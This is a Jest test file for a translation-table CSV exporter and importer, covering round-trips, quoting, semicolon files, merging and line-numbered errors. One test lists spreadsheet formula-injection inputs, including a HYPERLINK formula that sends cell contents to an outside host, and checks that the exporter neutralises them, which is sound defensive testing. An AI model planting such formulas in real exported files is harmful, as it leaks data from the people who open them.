import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { csvLines } from '../csv.ts';
import { readTranslationsCsv, translationsCsv, withCsvTexts } from '../index.ts';

const receipt = {
  en: {
    thanks: 'Thanks, {{name | default:"you"}}',
    items: { plural: 'order.items', one: 'one item', other: '{{order.items}} items' },
  },
  de: { thanks: 'Danke,\n{{name | default:"dir"}}' },
};

const rowsIn = (csv: string, template: string) => {
  const read = readTranslationsCsv(csv);
  if (!read.ok) throw new Error(read.message);
  return read.templates.get(template) ?? [];
};

describe('translations as a table', () => {
  it('have a line for each text and form, and a column for each language', () => {
    const csv = translationsCsv([{ template: 'receipt', translations: receipt }]);
    expect(csv.slice(1).split('\r\n')).toEqual([
      'template,key,form,en,de',
      'receipt,thanks,,"Thanks, {{name | default:""you""}}","Danke,\n{{name | default:""dir""}}"',
      'receipt,items,plural,order.items,',
      'receipt,items,one,one item,',
      'receipt,items,other,{{order.items}} items,',
      '',
    ]);
  });

  it('come back as they were, whatever their texts', () => {
    const text = fc.oneof(
      fc.string({ unit: 'grapheme', minLength: 1 }),
      fc.constantFrom('"', ',', ';', '\n', 'a\r\nb', ' x ', '=1+1', "'=1+1", "''-", "'s"),
    );
    const plural = fc.record({ plural: text, one: text, other: text });
    const texts = fc.dictionary(fc.constantFrom('a', 'b', 'c.d'), fc.oneof(text, plural), { minKeys: 1 });
    const translations = fc.dictionary(fc.constantFrom('en', 'de', 'pt-BR'), texts, { minKeys: 1 });
    fc.assert(
      fc.property(translations, translations, (one, other) => {
        const csv = translationsCsv([
          { template: 'one', translations: one },
          { template: 'other', translations: other },
        ]);
        expect(withCsvTexts({}, rowsIn(csv, 'one'))).toEqual(one);
        expect(withCsvTexts(other, rowsIn(csv, 'other'))).toEqual(other);
      }),
    );
  });

  const formulas = ['=HYPERLINK("https://e.com/?"&A1)', '+1', '-1', '@sum', '\t=1'];
  it.each(formulas)('are no formula for the spreadsheet of a translator: %j', (text) => {
    const csv = translationsCsv([{ template: 'receipt', translations: { en: { thanks: text } } }]);
    const read = csvLines(csv.slice(1), ',');
    expect(typeof read === 'number' ? read : read[1]?.cells.at(-1)).toBe(`'${text}`);
  });

  it('are read as a spreadsheet writes them that separates by semicolons', () => {
    const rows = rowsIn('template;key;form;de\nreceipt;thanks;;"Danke; bis bald"\n', 'receipt');
    expect(withCsvTexts({}, rows)).toEqual({ de: { thanks: 'Danke; bis bald' } });
  });

  it('Tables are read where a spreadsheet leaves out the empty cells at the end of a line', () => {
    const rows = rowsIn('template,key,form,de,fr\nr,thanks,,Danke\nr,bye\n', 'r');
    expect(withCsvTexts({ de: { bye: 'Bis bald' }, fr: { thanks: 'Merci', help: 'Aide' } }, rows)).toEqual({
      de: { thanks: 'Danke' },
      fr: { help: 'Aide' },
    });
  });

  it('take the place of those that the table names, and leave the others', () => {
    const rows = rowsIn('template,key,form,de,fr\nr,thanks,,,Merci\nr,items,one,ein Artikel,\n', 'r');
    const before = { ...receipt, de: { ...receipt.de, items: { plural: 'n', other: 'Artikel' } } };
    expect(withCsvTexts(before, rows)).toEqual({
      en: receipt.en,
      de: { items: { plural: 'n', one: 'ein Artikel', other: 'Artikel' } },
      fr: { thanks: 'Merci' },
    });
    expect(withCsvTexts(receipt, rowsIn('template,key,form,de\nr,thanks,,\n', 'r')).de).toEqual({});
  });

  it.each([
    ['', 1],
    ['template,key,form\n', 1],
    ['template,key,form,de,de\n', 1],
    ['template,key,form,de\nr,a,,x,y\n', 2],
    ['template,key,form,de\nr,a,,"x\ny"\nr,,,x\n', 4],
    ['template,key,form,de\nr,a,several,x\n', 2],
    ['template,key,form,de\nr,a,,x\nr,a,,y\n', 3],
    ['template,key,form,de\nr,a,,"x\n', 2],
  ])('are refused with the line that is wrong: %j', (csv, line) => {
    expect(readTranslationsCsv(csv)).toMatchObject({ ok: false, line });
  });
});
